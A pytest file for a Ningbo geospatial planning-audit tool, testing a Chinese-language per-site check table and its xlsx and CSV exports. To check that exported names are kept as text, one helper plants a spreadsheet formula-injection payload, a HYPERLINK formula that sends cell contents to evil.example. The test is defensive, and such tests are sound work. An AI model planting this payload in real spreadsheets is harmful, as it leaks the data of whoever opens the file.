"""The per-site check table (图斑核查表): its rows, coordinates, districts, and the xlsx and CSV a bureau files."""

from __future__ import annotations

import dataclasses
import io

import numpy as np
import openpyxl
import pandas as pd
import pytest
import shapely
from click.testing import CliRunner

from nbgeo import audit, crs, runs
from nbgeo.cli import main
from nbgeo.errors import OutputError
from nbgeo.renderers import checktable

HEADINGS_ZH = ["核查类别", "规则或要求", "核查内容", "图层", "图斑编号", "名称", "结论", "约束程度", "依据", "实测值",
               "限值", "差额", "单位", "说明", "所在区县", "经度(WGS84)", "纬度(WGS84)"]


@pytest.fixture(scope="module")
def found(sample, ningbo_plan):
    return audit.run_audit(sample, ningbo_plan)


@pytest.fixture(scope="module")
def table(found):
    return checktable.check_table(found, coords=("gcj02",))


def test_one_row_per_site_and_finding(found, table):
    findings = [(e["id"], f["feature_id"]) for e in found.sections["rules"] for f in e["findings"]]
    uncovered = [(e["id"], s["id"]) for e in found.sections["coverage"] for s in e["uncovered"]]
    assert list(zip(table["规则或要求"], table["图斑编号"], strict=True)) == findings + uncovered
    assert findings and uncovered
    assert list(table.columns) == [*HEADINGS_ZH, "经度(GCJ-02)", "纬度(GCJ-02)"]
    rules = table[table["核查类别"] == "选址规则"]
    assert set(rules["结论"]) <= {"不符合", "未知"}
    failing = rules[rules["结论"] == "不符合"]
    assert (failing["差额"] < 0).all()  # a failing site is on the wrong side of its limit
    assert set(table.loc[table["核查类别"] == "服务覆盖", "结论"]) == {"未覆盖"}


def test_measured_value_limit_and_basis_come_from_the_rule(found, ningbo_plan, table):
    setback = table[(table["规则或要求"] == "petrochemical_setback") & (table["图斑编号"] == "CL00001")].iloc[0]
    entry = next(e for e in found.sections["rules"] if e["id"] == "petrochemical_setback")
    finding = entry["findings"][0]
    assert (setback["实测值"], setback["限值"], setback["差额"]) == (finding["value"], finding["limit"],
                                                                   finding["margin"])
    spec = next(r for r in ningbo_plan.rules if r.id == "petrochemical_setback")
    basis = entry["basis"]
    assert basis == dict(spec.basis) and basis["instrument"]  # the rule's basis, as audit.json carries it
    # one cell of text: the instrument, its article and the phrase it rests on (those the plan gives)
    text = " ".join(basis[k] for k in ("instrument", "article") if basis[k])
    assert setback["依据"] == (f"{text}：“{basis['phrase']}”" if basis["phrase"] else text)
    assert setback["名称"] == found.dataset.layers["clusters"].gdf.loc["CL00001", "name"]


def test_each_point_lies_in_its_site_and_its_district(found, table):
    districts = found.dataset.layers["districts"].gdf.set_index("name")
    points = shapely.points(table["经度(WGS84)"].to_numpy(), table["纬度(WGS84)"].to_numpy())
    for point, layer, fid, district in zip(points, table["图层"], table["图斑编号"], table["所在区县"], strict=True):
        site = found.dataset.layers[layer].gdf.loc[fid].geometry
        assert site.intersects(point.buffer(1e-9)), (layer, fid)
        assert districts.loc[district].geometry.intersects(point), (fid, district)


def test_gcj02_columns_are_the_offset_coordinates(table):
    lon, lat = table["经度(WGS84)"].to_numpy(), table["纬度(WGS84)"].to_numpy()
    glon, glat = table["经度(GCJ-02)"].to_numpy(), table["纬度(GCJ-02)"].to_numpy()
    metres = [crs.offset_metres(a, b, c, d) for a, b, c, d in zip(lon, lat, glon, glat, strict=True)]
    assert 100 < min(metres) and max(metres) < 1000  # GCJ-02's offset around Ningbo is a few hundred metres
    back = crs.gcj02_to_wgs84(glon, glat)
    assert np.allclose(back[0], lon, atol=1e-5) and np.allclose(back[1], lat, atol=1e-5)


def test_english_headings_and_unknown_coordinates(found):
    t = checktable.check_table(found, lang="en")
    assert t.columns[:5].tolist() == ["check type", "rule or requirement", "what is checked", "layer", "site id"]
    assert t.columns[-2:].tolist() == ["longitude (WGS84)", "latitude (WGS84)"]
    assert set(t["verdict"]) <= {"fail", "unknown", "uncovered"}
    with pytest.raises(OutputError, match="unknown coordinates 'bd09'"):
        checktable.check_table(found, coords=("bd09",))


def _hostile(found):
    """The audit with one failing site named like a spreadsheet formula."""
    layers = dict(found.dataset.layers)
    gdf = layers["clusters"].gdf.copy()
    gdf.loc["CL00001", "name"] = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    layers["clusters"] = dataclasses.replace(layers["clusters"], gdf=gdf)
    return dataclasses.replace(found, dataset=dataclasses.replace(found.dataset, layers=layers))


def test_xlsx_reads_back_with_chinese_headers_frozen_filtered_and_sized(found):
    table = checktable.check_table(_hostile(found))
    book = openpyxl.load_workbook(io.BytesIO(checktable.to_xlsx(table)))
    sheet = book.active
    assert sheet.title == "图斑核查表"
    assert [c.value for c in sheet[1]] == HEADINGS_ZH
    assert all(c.font.bold for c in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:Q{len(table) + 1}"
    assert sheet.max_row == len(table) + 1
    widths = {letter: sheet.column_dimensions[letter].width for letter in "ABCDEFGHIJKLMNOPQ"}
    assert all(8 <= w <= 60 for w in widths.values()) and widths["I"] > widths["G"]  # basis wider than verdict
    names = [row[5] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")" in names  # text, never a formula
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
    margins = [row[11] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert all(m is None or isinstance(m, (int, float)) for m in margins) and any(m is None for m in margins)


def test_csv_has_a_bom_the_same_rows_and_formulas_as_text(found):
    table = checktable.check_table(_hostile(found))
    data = checktable.to_csv_bytes(table)
    assert data.startswith(b"\xef\xbb\xbf")
    back = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig")
    assert list(back.columns) == HEADINGS_ZH and len(back) == len(table)
    assert back["名称"].str.startswith("'=HYPERLINK").any()
    assert not back["名称"].fillna("").str.startswith("=").any()


def test_rules_command_writes_the_tables_with_gcj02(tmp_path):
    out = tmp_path / "r"
    result = CliRunner().invoke(main, ["-q", "rules", "--out", str(out), "--no-map", "--format", "xlsx",
                                       "--format", "csv", "--coords", "gcj02"])
    assert result.exit_code == 1, result.output
    assert sorted(p.name for p in out.iterdir() if not p.name.startswith(".")) == [
        "rule_failures.geojson", "rule_sites.csv", "rules.json", "site_checks.csv", "site_checks.xlsx"]
    sheet = openpyxl.load_workbook(out / "site_checks.xlsx").active
    head = [c.value for c in sheet[1]]
    assert head == [*HEADINGS_ZH, "经度(GCJ-02)", "纬度(GCJ-02)"]
    assert {row[0] for row in sheet.iter_rows(min_row=2, values_only=True)} == {"选址规则"}
    csv = pd.read_csv(out / "site_checks.csv", encoding="utf-8-sig")
    assert list(csv.columns) == head and len(csv) == sheet.max_row - 1


def test_coverage_and_audit_commands_write_the_table(tmp_path):
    out = tmp_path / "c"
    # coverage requirements are suggestions (建议): a miss changes the exit code with --strict
    result = CliRunner().invoke(main, ["-q", "coverage", "--out", str(out), "--id", "micro_parks_chargers_1km",
                                       "--format", "csv", "--lang", "en", "--strict"])
    assert result.exit_code == 1, result.output
    csv = pd.read_csv(out / "site_checks.csv", encoding="utf-8-sig")
    assert set(csv["verdict"]) == {"uncovered"} and set(csv["rule or requirement"]) == {"micro_parks_chargers_1km"}
    assert not (out / "coverage.html").exists()  # --format csv alone: no page
    audited = tmp_path / "a"
    result = CliRunner().invoke(main, ["-q", "audit", "--out", str(audited), "--no-map", "--format", "xlsx"])
    assert result.exit_code == 1, result.output
    assert sorted(p.name for p in audited.iterdir() if not p.name.startswith(".")) == ["audit.json",
                                                                                         "site_checks.xlsx"]


def test_coords_without_a_table_is_a_usage_error(tmp_path):
    result = CliRunner().invoke(main, ["rules", "--out", str(tmp_path / "x"), "--coords", "gcj02"])
    assert result.exit_code == 2 and "add --format xlsx or --format csv" in result.output
    assert not (tmp_path / "x").exists()


def test_api_and_command_write_the_same_table(sample, ningbo_plan, tmp_path):
    outputs = runs.coverage_run(sample, ningbo_plan, ids=["smart_roads_5g_500m"], formats=("csv",))
    outputs.write(tmp_path / "api")
    CliRunner().invoke(main, ["-q", "coverage", "--out", str(tmp_path / "cli"), "--id", "smart_roads_5g_500m",
                              "--format", "csv"])
    assert (tmp_path / "api" / "site_checks.csv").read_bytes() == (tmp_path / "cli" / "site_checks.csv").read_bytes()
